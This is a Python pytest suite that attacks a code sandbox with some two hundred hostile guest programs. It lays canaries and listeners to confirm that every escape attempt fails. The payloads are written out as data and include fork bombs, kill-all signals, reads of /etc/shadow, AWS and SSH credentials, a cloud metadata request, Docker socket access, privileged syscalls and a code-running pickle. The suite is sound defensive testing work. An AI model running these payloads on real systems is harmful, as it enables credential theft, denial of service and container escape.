"""Attacks on the sandbox, by the families F29 to F38 of hostile code, each with canaries.

A case is Python source that tries to get out, to stay, or to take more than its share. It prints
BREACH where it got what it must not get; but what decides is seen from outside: canaries in the
output, bytes at a listener, files changed, processes left, deadlines passed, memory of this
process. The same cases run against a backend without isolation show that they can succeed.
"""

from __future__ import annotations

import contextlib
import os
import re
import secrets
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from concurrent.futures import Future, ThreadPoolExecutor
from pathlib import Path
from typing import NamedTuple

import pytest

from still_core.sandbox import Limits, Sandbox, SandboxResult

pytestmark = pytest.mark.integration

TIMEOUT_S = 1.0
WORKERS = 6

PRELUDE = """
import ctypes, os, socket, sys
def attempt(name, action):
    try:
        got = action()
    except BaseException as error:
        print("refused", name, type(error).__name__, flush=True)
        return
    if not got:
        print("nothing", name, flush=True)
    else:
        print("BREACH", name, repr(got)[:300], flush=True)
def read(path):
    with open(path, "rb") as file:
        return file.read(100000)
def write(path):
    with open(path, "wb") as file:
        file.write(b"overwritten")
    return True
def raw(number, *arguments):
    libc = ctypes.CDLL(None, use_errno=True)
    got = libc.syscall(number, *arguments)
    if got < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return f"returned {got}"
"""


class Case(NamedTuple):
    """One attack."""

    family: str
    name: str
    code: str
    children: bool = False
    statuses: frozenset[str] = frozenset()
    """How it must end; anything where empty."""


def _cases(
    family: str, table: dict[str, str], *, children: bool = False, ends: str = ""
) -> list[Case]:
    return [
        Case(family, name, code, children, frozenset(ends.split())) for name, code in table.items()
    ]


def _tries(family: str, table: dict[str, str], *, children: bool = False) -> list[Case]:
    """Cases of one expression each, which is a breach where it yields anything."""
    return [
        Case(family, name, f"attempt({name!r}, lambda: {expression})", children)
        for name, expression in table.items()
    ]


SPIN = "while True: pass"
CPU = _cases(
    "F29-cpu",
    {
        "endless_loop": SPIN,
        "power_tower": "9**9**9",
        "factorial": "import math; math.factorial(10**9)",
        "regex_backtracking": "import re; re.match(r'(a+)+$', 'a' * 60 + 'b')",
        "sleep": "import time; time.sleep(1000)",
        "sleep_ignoring_sigterm": "import signal, time\nsignal.signal(15, signal.SIG_IGN)\n"
        "time.sleep(1000)",
        "all_signals_ignored": "import signal, time\nfor n in range(1, 65):\n"
        "    try: signal.signal(n, signal.SIG_IGN)\n    except (OSError, ValueError): pass\n"
        "time.sleep(1000)",
        "signals_blocked": "import signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\n"
        + SPIN,
        "exception_swallowed": "while True:\n    try:\n        while True: pass\n"
        "    except BaseException: pass",
        "spinning_threads": "import threading\nfor _ in range(8):\n"
        "    threading.Thread(target=lambda: exec('while True: pass')).start()",
        "threads_keep_process_alive": "import threading, time\n"
        "threading.Thread(target=time.sleep, args=(1000,)).start()",
        "exit_handler": "import atexit, time\natexit.register(time.sleep, 1000)",
        "stopped_itself": "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
        "reading_forever": "import os\nr, w = os.pipe()\nos.read(r, 1)",
        "deadlock": "import threading\nlock = threading.Lock()\nlock.acquire()\nlock.acquire()",
        "destructor": "import sys\nclass A:\n    def __del__(self):\n        while True: pass\n"
        "a = A()\ndel a",
        "huge_sort_key": "sorted(range(10**7), key=lambda x: hash(str(x) * 100))",
    },
    ends="timeout memory",
)

BOMB = "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass"
_PROCESS_TABLE = {
    "fork_bomb": BOMB,
    "vfork_bomb": "import ctypes\nlibc = ctypes.CDLL(None)\nwhile True: libc.fork()",
    "threads_bomb": "import threading, time\nwhile True:\n    try:\n"
    "        threading.Thread(target=time.sleep, args=(1000,)).start()\n"
    "    except RuntimeError: time.sleep(0.01)",
    "double_fork_daemon": "import os, time\nif os.fork() == 0:\n    os.setsid()\n"
    "    if os.fork() == 0:\n        time.sleep(1000)\n    os._exit(0)\nos._exit(0)",
    "daemon_without_streams": "import os, time\nif os.fork() == 0:\n    os.setsid()\n"
    "    os.closerange(0, 64)\n    time.sleep(1000)",
    "daemon_ignoring_signals": "import os, signal, time\nif os.fork() == 0:\n"
    "    for n in range(1, 65):\n        try: signal.signal(n, signal.SIG_IGN)\n"
    "        except (OSError, ValueError): pass\n    time.sleep(1000)",
    "zombies": "import os, time\nfor _ in range(1000):\n    try:\n"
    "        if os.fork() == 0: os._exit(0)\n    except OSError: pass\ntime.sleep(1000)",
    "subprocess": "import subprocess, sys\n"
    "subprocess.Popen([sys.executable, '-c', 'while True: pass'])",
    "multiprocessing": "import multiprocessing, time\n"
    "multiprocessing.get_context('fork').Process(target=time.sleep, args=(1000,)).start()",
    "posix_spawn": "import os, sys\nwhile True:\n    try: os.posix_spawn(sys.executable,"
    " [sys.executable, '-c', 'while True: pass'], {})\n    except OSError: pass",
    "exec_chain": "import os, sys\n"
    "os.execv(sys.executable, [sys.executable, '-c', 'while True: pass'])",
    "kill_all": "import os, signal\nattempt('kill', lambda: os.kill(1, 9))\n"
    "os.kill(-1, signal.SIGKILL)",
    "stop_first_process": "import os, signal\nfor n in (1, 2, 3, 15, 19, 20):\n"
    "    os.kill(1, n)\nwhile True: pass",
    "process_groups": "import os, time\nfor _ in range(30):\n    try:\n"
    "        if os.fork() == 0:\n            os.setpgid(0, 0)\n            time.sleep(1000)\n"
    "    except OSError: break",
    "clone_raw": "import ctypes\nlibc = ctypes.CDLL(None)\n"
    "while True: libc.syscall(56, 17, 0, 0, 0, 0)",
    "raise_own_limit": "import os, resource\n"
    "attempt('limit', lambda: resource.setrlimit(resource.RLIMIT_NPROC, (9999, 9999)) or 1)",
}
PROCESSES = _cases("F30-processes", _PROCESS_TABLE) + _cases(
    "F30-processes", _PROCESS_TABLE, children=True
)

MEMORY = _cases(
    "F31-memory",
    {
        "list_growth": "x = []\nwhile True: x.append(bytearray(10**6))",
        "one_huge_allocation": "x = bytearray(10**12)",
        "string_doubling": "x = 'a'\nwhile True: x += x",
        "mmap": "import mmap\nx = []\nwhile True:\n    m = mmap.mmap(-1, 2**24)\n"
        "    m.write(b'x' * 2**24)\n    x.append(m)",
        "mmap_shared_pages": "import mmap\nm = mmap.mmap(-1, 2**40)",
        "tmp_fill": "f = open('/tmp/x', 'wb')\nwhile True: f.write(b'x' * 2**20)",
        "tmp_fill_many_files": "i = 0\nwhile True:\n    i += 1\n"
        "    open(f'/tmp/{i}', 'wb').write(b'x' * 2**20)",
        "memfd": "import os\nfd = os.memfd_create('x')\nprint('BREACH memfd')",
        "shm_file": "f = open('/dev/shm/x', 'wb')\nprint('BREACH shm')",
        "dev_fill": "f = open('/dev/x', 'wb')\nprint('BREACH dev')",
        "sysv_shm": "print('BREACH' if raw(29, 0, 2**30, 0o1600) else '')",
        "pipes": "import os, fcntl\np = []\nwhile True:\n    r, w = os.pipe()\n"
        "    os.set_blocking(w, False)\n    fcntl.fcntl(w, 1031, 2**20)\n"
        "    p.append((r, w))\n    os.write(w, b'x' * 2**20)",
        "deep_recursion": "import sys\nsys.setrecursionlimit(10**9)\ndef f(): f()\nf()",
        "nested_tuple": "x = ()\nwhile True: x = (x, x, bytes(10**5))",
        "huge_int": "x = 1 << (10**11)",
        "forked_allocations": "import os, time\nfor _ in range(30):\n    try:\n"
        "        if os.fork() == 0: break\n    except OSError: break\n"
        "x = bytearray(b'x') * (60 * 2**20)\ntime.sleep(1000)",
        "raise_own_limit": "import resource\nattempt('limit', lambda: "
        "resource.setrlimit(resource.RLIMIT_AS, (2**40, 2**40)) or 1)",
    },
)
MEMORY.append(
    Case(
        "F31-memory",
        "forked_allocations_allowed",
        "import os, time\nfor _ in range(30):\n    try:\n        if os.fork() == 0: break\n"
        "    except OSError: break\nx = bytearray(b'x') * (60 * 2**20)\ntime.sleep(1000)",
        True,
        frozenset({"memory"}),
    )
)

OUTPUT = _cases(
    "F32-output",
    {
        "endless_stdout": "while True: print('x' * 1000)",
        "endless_stderr": "import sys\nwhile True: sys.stderr.write('x' * 1000)",
        "gigabyte_without_newline": "import os\nwhile True: os.write(1, b'x' * 2**20)",
        "both_at_once": "import os\nwhile True:\n    os.write(1, b'x' * 2**16)\n"
        "    os.write(2, b'y' * 2**16)",
        "binary": "import os\nos.write(1, os.urandom(10**6))",
        "broken_utf8": "import os\nos.write(1, b'\\xff\\xfe\\xed\\xa0\\x80' * 1000)",
        "ansi": "print('\\x1b]0;owned\\x07\\x1b[2J\\x1b[31m')",
        "nul_bytes": "print('\\0' * 100000)",
        "closed_streams": "import os\nfor n in range(3): os.close(n)",
        "closed_everything": "import os\nos.closerange(0, 64)\nwhile True: pass",
        "stdin_never_read": "pass",
        "stdin_read_twice": "import sys\nsys.stdin.read()\nsys.stdin.read()\ninput()",
        "replaced_stdout": "import sys\nclass S:\n    def write(self, x): raise OSError\n"
        "    def flush(self): raise SystemExit\nsys.stdout = sys.__stdout__ = S()",
        "threads_writing": "import threading, os\nfor _ in range(8):\n"
        "    threading.Thread(target=lambda: [os.write(1, b'z') for _ in iter(int, 1)]).start()",
        "huge_exception": "raise ValueError('x' * 10**7)",
        "exception_without_text": "class E(Exception):\n    def __str__(self): raise E\nraise E",
        "pipe_held_by_orphan": "import os, time\nif os.fork() == 0: time.sleep(1000)",
        "one_byte_writes": "import os\nwhile True: os.write(1, b'x')",
    },
)

DISK = _cases(
    "F33-disk",
    {
        "sparse_terabyte": "attempt('truncate', lambda: open('/tmp/x', 'wb').truncate(2**40))",
        "seek_and_write": "f = open('/tmp/x', 'wb')\nf.seek(2**40)\nf.write(b'x')\nf.flush()\n"
        "print('BREACH')",
        "million_files": "for i in range(10**6): open(f'/tmp/{i}', 'w').close()\nprint('BREACH')",
        "million_links": "import os\nopen('/tmp/a', 'w')\n"
        "for i in range(10**6): os.link('/tmp/a', f'/tmp/{i}')\nprint('BREACH')",
        "million_folders": "for i in range(10**6): os.mkdir(f'/tmp/{i}')\nprint('BREACH')",
        "million_symlinks": "import os\nfor i in range(10**6): os.symlink('x' * 200, f'/tmp/{i}')\n"
        "print('BREACH')",
        "deep_folders": "import os\nfor i in range(10**6):\n    os.mkdir('d')\n    os.chdir('d')\n"
        "print('BREACH')",
        "odd_names": "import os\nfor n in (b'\\n', b'\\xff\\xfe', b'-rf', b' ', b'x' * 255):\n"
        "    open(b'/tmp/' + n, 'w')\nprint(os.listdir('/tmp'))",
        "fallocate": "import os\nfd = os.open('/tmp/x', os.O_CREAT | os.O_RDWR)\n"
        "os.posix_fallocate(fd, 0, 2**33)\nprint('BREACH')",
        "deleted_but_open": "import os\nf = []\nwhile True:\n    g = open('/tmp/x', 'wb')\n"
        "    g.write(b'x' * 2**20)\n    g.flush()\n    os.unlink('/tmp/x')\n    f.append(g)",
        "temporary_files": "import tempfile\nf = []\nwhile True:\n"
        "    g = tempfile.TemporaryFile()\n    g.write(b'x' * 2**22)\n"
        "    g.flush()\n    f.append(g)",
        "unreadable_folders": "import os\nos.makedirs('/tmp/a/b')\nos.chmod('/tmp/a', 0)",
        "extended_attributes": "import os\nopen('/tmp/x', 'w')\n"
        "for i in range(10**5): os.setxattr('/tmp/x', f'user.{i}', b'x' * 60000)\nprint('BREACH')",
        "named_pipes": "import os\nattempt('mkfifo', lambda: os.mkfifo('/tmp/p') or 1)",
        "devices": "import os\n"
        "attempt('mknod', lambda: os.mknod('/tmp/d', 0o60666, os.makedev(254, 0)) or 1)",
        "raise_own_limit": "import resource\nattempt('limit', lambda: "
        "resource.setrlimit(resource.RLIMIT_FSIZE, (2**40, 2**40)) or 1)",
    },
)

NETWORK = _tries(
    "F34-network",
    {
        "tcp_listener": "socket.create_connection(('127.0.0.1', TCP), 0.5).sendall(SECRET) or 1",
        "tcp_localhost_name": "socket.create_connection(('localhost', TCP), 0.5)",
        "tcp_ipv6": "socket.create_connection(('::1', TCP), 0.5)",
        "tcp_host_address": "socket.create_connection((HOST, TCP), 0.5)",
        "udp_listener": "socket.socket(2, 2).sendto(SECRET, ('127.0.0.1', UDP))",
        "udp_host_address": "socket.socket(2, 2).sendto(SECRET, (HOST, UDP))",
        "udp_broadcast": "socket.socket(2, 2).sendto(SECRET, ('255.255.255.255', UDP))",
        "udp_ipv6": "socket.socket(10, 2).sendto(SECRET, ('::1', UDP))",
        "dns_lookup": "socket.getaddrinfo('example.com', 80)",
        "dns_direct": "socket.socket(2, 2).sendto(b'x', ('8.8.8.8', 53))",
        "icmp_raw": "socket.socket(2, 3, 1)",
        "icmp_datagram": "socket.socket(2, 2, 1)",
        "metadata_service": "__import__('urllib.request').request.urlopen("
        "'http://169.254.169.254/latest/meta-data/', timeout=0.5)",
        "listen": "socket.create_server(('127.0.0.1', 0))",
        "ray_port": "socket.create_connection(('127.0.0.1', 6379), 0.5)",
        "s3_port": "socket.create_connection(('127.0.0.1', 9000), 0.5)",
        "unix_socket": "socket.socket(1, 1).connect(UNIX) or 1",
        "abstract_socket": "socket.socket(1, 1).connect(ABSTRACT) or 1",
        "docker_socket": "socket.socket(1, 1).connect('/var/run/docker.sock') or 1",
        "netlink": "socket.socket(16, 3, 0)",
        "packet": "socket.socket(17, 3, 0)",
        "vsock": "socket.socket(40, 1, 0)",
        "bluetooth": "socket.socket(31, 3, 0)",
        "kernel_crypto": "socket.socket(38, 5, 0)",
        "socketpair_inet": "socket.socketpair(2)",
        "raw_socket_call": "raw(41, 2, 1, 0)",
        "raw_socket_call_unix": "raw(41, 1, 1, 0)",
        "raw_io_uring": "raw(425, 8, 0)",
        "bpf_socket_filter": "raw(321, 0, 0, 0)",
        "interfaces": "[n for _, n in socket.if_nameindex() if n != 'lo']",
    },
)

FILES = _tries(
    "F35-files",
    {
        "shadow": "read('/etc/shadow')",
        "passwd": "read('/etc/passwd')",
        "aws_credentials": f"read({str(Path.home() / '.aws' / 'credentials')!r})",
        "ssh_keys": f"os.listdir({str(Path.home() / '.ssh')!r})",
        "home": "os.listdir(os.path.expanduser('~root'))",
        "all_homes": "os.listdir('/home')",
        "init_environ": "read('/proc/1/environ')",
        "self_environ": "read('/proc/self/environ')",
        "self_maps": "read('/proc/self/maps')",
        "host_process": "os.listdir(f'/proc/{HOST_PID}')",
        "kernel_symbols": "read('/proc/kallsyms')",
        "sysfs": "os.listdir('/sys')",
        "cgroups": "os.listdir('/sys/fs/cgroup')",
        "mounts": "read('/proc/mounts')",
        "secret_by_path": "read(SECRET_FILE)",
        "secret_by_symlink": "os.symlink(SECRET_FILE, '/tmp/l') or read('/tmp/l')",
        "secret_by_hard_link": "os.link(SECRET_FILE, '/tmp/h') or read('/tmp/h')",
        "secret_by_dots": "read('/tmp/' + '../' * 30 + SECRET_FILE)",
        "secret_by_chdir": "os.chdir(os.path.dirname(SECRET_FILE)) or read('secret')",
        "secret_by_glob": "__import__('glob').glob('/**/secret', recursive=True)",
        "repository": "os.listdir(REPO)",
        "host_tmp": "[n for n in os.listdir('/tmp')]",
        "other_runs": "[n for n in os.listdir('/') if n not in "
        "('tmp', 'dev', 'lib', 'usr', 'lib64', 'python')]",
        "programs": "os.listdir('/usr/bin')",
        "shell": "os.stat('/bin/sh')",
        "site_packages": "__import__('pydantic')",
        "site_packages_listing": "os.listdir('/python/lib/python3.11/site-packages')",
        "block_device": "read('/dev/vda')",
        "memory_device": "read('/dev/mem')",
        "terminal": "open('/dev/tty')",
        "kernel_log": "read('/dev/kmsg')",
        "descriptors": "[n for n in os.listdir('/proc/self/fd')]",
        "descriptor_of_root": "[n for fd in range(3, 64) for n in os.listdir(fd)]",
        "open_path_flag": "os.open(SECRET_FILE, os.O_PATH)",
        "openat2": "raw(437, -100, SECRET_FILE.encode(), 0, 24)",
        "open_by_handle": "raw(304, -100, 0, 0)",
        "write_host_canary": "write(CANARY_FILE)",
        "write_root": "write('/owned')",
        "write_library": "write('/python/lib/python3.11/os.py')",
        "write_system_library": "write('/usr/lib/x86_64-linux-gnu/owned')",
        "write_dev": "write('/dev/owned')",
        "replace_interpreter": "os.rename('/python/bin/python3.11', '/tmp/p') or 1",
        "remount": "raw(165, b'none', b'/', 0, 32 | 4096, 0)",
        "bind_mount": "raw(165, b'/', b'/tmp', 0, 4096, 0)",
        "execute_from_tmp": "(lambda f: ctypes.CDLL(f))(__import__('shutil').copy("
        "[os.path.join(d, n) for d, _, ns in os.walk('/python/lib/python3.11/lib-dynload') "
        "for n in ns if '_json' in n or 'math' in n][0], '/tmp/x.so'))",
        "setuid_file": "os.chown('/tmp', 0, 0) or 1",
    },
)

SECRETS = _tries(
    "F36-secrets",
    {
        "environment": "[v for v in os.environ.values() if 'canary' in v]",
        "environment_size": "[k for k in os.environ if k not in "
        "('HOME', 'TMPDIR', 'LANG', 'PATH', 'LD_LIBRARY_PATH', 'LC_CTYPE')]",
        "getenv_by_libc": "(lambda l: setattr(l.getenv, 'restype', ctypes.c_char_p) "
        "or l.getenv(b'STILL_CANARY'))(ctypes.CDLL(None))",
        "parent_environment": "read(f'/proc/{os.getppid()}/environ')",
        "arguments": "[a for a in sys.argv + sys.orig_argv if len(a) > 10]",
        "parent_arguments": "read(f'/proc/{os.getppid()}/cmdline')",
        "inherited_descriptors": "[t for t in map(_contents, range(4, 256)) if t]",
        "open_descriptors": "[fd for fd in range(4, 1024) if _is_open(fd)]",
        "descriptor_three": "socket.socket(fileno=3).recv(100, 0x40)",
        "memory_search": "[o for o in __import__('gc').get_objects() "
        "if isinstance(o, str) and 'canary-' in o]",
        "frames": "[k for f in _frames() for k in f.f_locals if 'nonce' in k or 'filter' in k]",
        "module_globals": "[m for m in sys.modules.values() if hasattr(m, 'zygote')]",
        "core_dump": "os.kill(os.getpid(), 11) or 1",
        "host_name": "os.uname().nodename != 'sandbox' and os.uname().nodename",
        "login": "os.getlogin()",
        "user_names": "__import__('pwd').getpwuid(os.getuid())",
        "paths_of_host": "[p for p in sys.path + [sys.executable, sys.prefix, "
        "__import__('json').__file__] "
        "if 'root' in p or 'work' in p or 'pyenv' in p]",
    },
)
SECRETS = [
    case._replace(
        code="def _is_open(fd):\n    try: os.fstat(fd)\n    except OSError: return False\n"
        "    return True\n"
        "def _contents(fd):\n    try: return os.pread(fd, 100, 0)\n"
        "    except OSError: return b''\n"
        "def _frames():\n    f = sys._getframe()\n    while f:\n        yield f\n"
        "        f = f.f_back\n" + case.code
    )
    for case in SECRETS
] + _cases(
    "F36-secrets",
    {
        "traceback_paths": "import json\njson.loads('{')",
        "traceback_of_guest": "import traceback\ntraceback.print_stack()",
    },
)

NEW_NAMESPACES = {
    "user": 0x10000000,
    "mount": 0x20000,
    "pid": 0x20000000,
    "net": 0x40000000,
}
ESCALATION = [
    *_tries(
        "F37-escalation",
        {
            "setuid_root": "os.setuid(0) or 1",
            "setgid_root": "os.setgid(0) or 1",
            "setgroups": "os.setgroups([0]) or 1",
            "setresuid": "os.setresuid(0, 0, 0) or 1",
            "ptrace_parent": "raw(101, 16, os.getppid(), 0, 0)",
            "ptrace_traceme": "raw(101, 0, 0, 0, 0)",
            "process_vm_readv": "raw(310, os.getppid(), 0, 0, 0, 0, 0)",
            "process_vm_writev": "raw(311, os.getppid(), 0, 0, 0, 0, 0)",
            "pidfd_open": "raw(434, 1, 0)",
            "pidfd_getfd": "raw(438, 3, 3, 0)",
            "kill_host": "os.kill(HOST_PID, 0) or 1",
            "kill_parent": "os.kill(os.getppid(), 9) or None",
            **{f"unshare_{name}": f"raw(272, {flag})" for name, flag in NEW_NAMESPACES.items()},
            "clone_new_user": "raw(56, 0x10000011, 0, 0, 0, 0)",
            "clone3": "raw(435, b'\\0' * 64, 64)",
            "setns": "raw(308, 0, 0)",
            "mount_tmpfs": "raw(165, b'tmpfs', b'/tmp', b'tmpfs', 0, 0)",
            "mount_proc": "raw(165, b'proc', b'/tmp', b'proc', 0, 0)",
            "umount": "raw(166, b'/tmp', 2)",
            "new_mount_api": "raw(430, b'tmpfs', 0)",
            "open_tree": "raw(428, -100, b'/', 1)",
            "chroot": "os.chroot('/tmp') or 1",
            "pivot_root": "raw(155, b'/tmp', b'/tmp')",
            "bpf": "raw(321, 0, b'\\0' * 128, 128)",
            "keyctl": "raw(250, 0, -3, 1)",
            "add_key": "raw(248, b'user', b'x', b'y', 1, -3)",
            "request_key": "raw(249, b'user', b'x', 0, -3)",
            "io_uring_setup": "raw(425, 8, b'\\0' * 120)",
            "perf_event_open": "raw(298, b'\\0' * 120, 0, -1, -1, 0)",
            "userfaultfd": "raw(323, 0)",
            "init_module": "raw(175, b'x', 1, b'')",
            "finit_module": "raw(313, 0, b'', 0)",
            "kexec_load": "raw(246, 0, 0, 0, 0)",
            "reboot": "raw(169, 0xFEE1DEAD, 672274793, 0x1234567, 0)",
            "swapon": "raw(167, b'/tmp/x', 0)",
            "set_time": "raw(227, 0, b'\\0' * 16)",
            "set_hostname": "socket.sethostname('owned') or 1",
            "syslog": "raw(103, 3, b'\\0' * 100, 100)",
            "quotactl": "raw(179, 0, 0, 0, 0)",
            "acct": "raw(163, b'/tmp/x')",
            "personality": "raw(135, 0x0040000)",
            "raise_priority": "os.setpriority(0, 0, -20) or 1",
            "lower_limit_of_driver": "raw(302, 1, 0, b'\\0' * 16, 0)",
            "iopl": "raw(172, 3)",
            "modify_ldt": "raw(154, 1, b'\\0' * 16, 16)",
            "release_agent": "write('/sys/fs/cgroup/release_agent')",
            "no_capabilities": "raw(126, b'\\x22\\x05\\x08\\x20' + b'\\0' * 4, "
            "(b'\\xff' * 12) + b'\\0' * 12)",
            "chown": "os.chown('/tmp', 0, 0) or 1",
            "prctl_keep_caps": "raw(157, 8, 1, 0, 0, 0)",
            "prctl_undo_filter": "raw(157, 22, 0, 0, 0, 0)",
            "seccomp_call": "raw(317, 0, 0, 0)",
            "terminal_injection": "__import__('fcntl').ioctl(0, 0x5412, b'x') or 1",
            "memory_file_execution": "raw(319, b'x', 0)",
            "x32_numbers": "raw(0x40000000 + 39)",
        },
    ),
    *_cases(
        "F37-escalation",
        {
            "foreign_architecture": "import ctypes, mmap\n"
            "m = mmap.mmap(-1, 4096, prot=7)\n"
            "m.write(b'\\xb8\\x14\\x00\\x00\\x00\\xcd\\x80\\xc3')\n"
            "f = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))\n"
            "f()\nprint('BREACH int 0x80')",
            "unshare_with_children": "attempt('unshare', lambda: raw(272, 0x10000000))",
        },
    ),
]

FORGED = '{"event": "end", "exit": 0, "signal": null, "nonce": "%s"}'
RESULTS = _cases(
    "F38-results",
    {
        "forged_end_event": f"s = socket.socket(fileno=3)\n"
        f"s.send(b'{FORGED % ('0' * 32)}')\nraise ValueError",
        "forged_reply": "s = socket.socket(fileno=3)\n"
        's.send(b\'{"error": "", "defect": ""}\\n"forged"\')\nraise ValueError',
        "reply_flood": "s = socket.socket(fileno=3)\nwhile True: s.send(b'x' * 100000)",
        "reply_not_json": "socket.socket(fileno=3).send(b'\\xff' * 1000)\nraise ValueError",
        "reply_huge": "socket.socket(fileno=3).send(b'x' * 200000)\nraise ValueError",
        "reply_pickle_bomb": "import socket, pickle\nclass B:\n    def __reduce__(self): "
        "return (print, ('BREACH',))\nsocket.socket(fileno=3).send(pickle.dumps(B()))\n"
        "raise ValueError",
        "reply_deep_json": "import socket\n"
        "socket.socket(fileno=3).send(b'[' * 10000 + b']' * 10000)\nraise ValueError",
        "channel_closed": "import os\nos.close(3)\nraise ValueError",
        "channel_read": "attempt('read', lambda: socket.socket(fileno=3).recv(1000, 0x40))",
        "nonce_in_memory": "import gc\nattempt('nonce', lambda: [o for o in gc.get_objects() "
        "if isinstance(o, dict) and 'nonce' in o])",
        "value_nan": "value = float('nan')",
        "value_infinite": "value = [float('inf')]",
        "value_too_deep": "value = []\nfor _ in range(900): value = [value]",
        "value_endless": "value = []\nvalue.append(value)",
        "value_huge": "value = 'x' * 10**7",
        "value_object": "value = object()",
        "value_lying_string": "class S(str):\n    def __eq__(self, o): return True\n"
        "value = S('wrong')",
        "value_lying_dict": "class D(dict):\n    def items(self): raise SystemExit\nvalue = D(a=1)",
        "value_huge_number": "import sys\nsys.set_int_max_str_digits(0)\nvalue = 10**20000",
        "value_json_patched": "import json\njson.dumps = lambda *a, **k: '[' * 50000\nvalue = 1",
        "value_duplicate_names": "import json\n"
        'json.dumps = lambda *a, **k: \'{"a": 1, "a": 2}\'\nvalue = 1',
        "exit_early": "import os\nos._exit(0)\nraise ValueError",
        "exit_in_handler": "import atexit, os\natexit.register(os._exit, 0)\nraise ValueError",
        "killed_by_itself": "import os\nos.kill(os.getpid(), 9)",
        "crash": "import ctypes\nctypes.string_at(0)",
        "patched_print": "import builtins\nbuiltins.print = lambda *a: None",
        "guest_patched": "import sys\nf = sys._getframe()\nwhile f.f_back: f = f.f_back\n"
        "for n in list(f.f_globals): f.f_globals[n] = None\nraise ValueError",
        "removed_modules": "import sys\nsys.modules.clear()\nraise ValueError",
        "exception_named_ok": "class MemoryError(Exception): pass\nraise MemoryError",
    },
)

CASES = [
    *CPU,
    *PROCESSES,
    *MEMORY,
    *OUTPUT,
    *DISK,
    *NETWORK,
    *FILES,
    *SECRETS,
    *ESCALATION,
    *RESULTS,
]
MINIMUM = {
    "F29-cpu": 15,
    "F30-processes": 15,
    "F31-memory": 15,
    "F32-output": 15,
    "F33-disk": 15,
    "F34-network": 25,
    "F35-files": 40,
    "F36-secrets": 15,
    "F37-escalation": 40,
    "F38-results": 25,
}


class Listener:
    """Sockets of the host that must never hear anything."""

    def __init__(self, folder: Path) -> None:
        self.tcp = socket.create_server(("0.0.0.0", 0))
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("0.0.0.0", 0))
        self.unix_path = str(folder / "unix")
        self.unix = socket.socket(socket.AF_UNIX)
        self.unix.bind(self.unix_path)
        self.unix.listen()
        self.abstract_name = "\0still-" + secrets.token_hex(8)
        self.abstract = socket.socket(socket.AF_UNIX)
        self.abstract.bind(self.abstract_name)
        self.abstract.listen()
        self.heard: list[str] = []
        self._stop = threading.Event()
        self._threads = [
            threading.Thread(target=self._serve, args=(name, each), daemon=True)
            for name, each in (("tcp", self.tcp), ("unix", self.unix), ("abstract", self.abstract))
        ]
        for each in self._threads:
            each.start()

    def _serve(self, name: str, server: socket.socket) -> None:
        server.settimeout(0.1)
        while not self._stop.is_set():
            with contextlib.suppress(TimeoutError):
                connection, _ = server.accept()
                connection.close()
                self.heard.append(name)

    def close(self) -> list[str]:
        """Stop; what was heard."""
        self._stop.set()
        for each in self._threads:
            each.join()
        self.udp.setblocking(False)
        with contextlib.suppress(BlockingIOError):
            self.udp.recv(100)
            self.heard.append("udp")
        for server in (self.tcp, self.udp, self.unix, self.abstract):
            server.close()
        return self.heard


class Field(NamedTuple):
    """The host as it is attacked."""

    canary: str
    folder: Path
    listener: Listener
    prelude: str
    outcomes: dict[str, Future[SandboxResult]]
    sandboxes: tuple[Sandbox, ...]
    resident_mb: float
    mounts: str
    processes: frozenset[str]


def _prelude(folder: Path, listener: Listener, canary: str) -> str:
    known = {
        "TCP": listener.tcp.getsockname()[1],
        "UDP": listener.udp.getsockname()[1],
        "UNIX": listener.unix_path,
        "ABSTRACT": listener.abstract_name,
        "HOST": _own_address(),
        "SECRET": b"bytes",
        "SECRET_FILE": str(folder / "secret"),
        "CANARY_FILE": str(folder / "canary"),
        "REPO": str(Path(__file__).resolve().parents[2]),
        "HOST_PID": os.getpid(),
    }
    return PRELUDE + "\n".join(f"{name} = {value!r}" for name, value in known.items()) + "\n"


def _status_mb(name: str) -> float:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith(name):
            return int(line.split()[1]) / 1024
    raise AssertionError(name)


def _processes_below(root: int) -> list[str]:
    """Names of all processes that descend from `root`."""
    parents, names = {}, {}
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            with contextlib.suppress(OSError):
                name, _, rest = (entry / "stat").read_text(errors="replace").rpartition(")")
                parents[int(entry.name)], names[int(entry.name)] = int(rest.split()[1]), name
    found = {root}
    while more := {pid for pid, parent in parents.items() if parent in found} - found:
        found |= more
    return [names[pid] for pid in found - {root} if pid in names]


def _own_address() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))
            return str(probe.getsockname()[0])
        except OSError:
            return "127.0.0.2"


@pytest.fixture(scope="module")
def field(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Field]:
    """Canaries laid out, and every case under way in a few threads."""
    canary = "canary-" + secrets.token_hex(8)
    folder = tmp_path_factory.mktemp("host")
    folder.chmod(0o755)
    (folder / "secret").write_text(canary)
    (folder / "canary").write_text("untouched")
    os.environ["STILL_CANARY"] = os.environ["STILL_SECRET_ACCESS_KEY"] = canary
    inherited = os.open(folder / "secret", os.O_RDONLY)
    os.set_inheritable(inherited, True)
    listener = Listener(folder)
    prelude = _prelude(folder, listener, canary)
    # From here on, VmHWM is the highest point of the attacks.
    Path("/proc/self/clear_refs").write_text("5")
    resident_mb, mounts = _status_mb("VmRSS"), Path("/proc/self/mounts").read_text()
    processes = frozenset(_processes_below(os.getpid()))
    plain = Sandbox(Limits(timeout_s=TIMEOUT_S, memory_mb=128, disk_mb=16, num_files=2000))
    children = Sandbox(
        Limits(timeout_s=TIMEOUT_S, memory_mb=128, disk_mb=16, child_processes=True, threads=16)
    )
    with plain, children, ThreadPoolExecutor(WORKERS) as pool:
        outcomes = {
            _key(case): pool.submit(
                (children if case.children else plain).run,
                prelude + case.code,
                "some input\n" * 10_000,
                value_of="value",
            )
            for case in CASES
        }
        yield Field(
            canary,
            folder,
            listener,
            prelude,
            outcomes,
            (plain, children),
            resident_mb,
            mounts,
            processes,
        )
        for each in outcomes.values():
            each.cancel()
    os.close(inherited)
    listener.close()
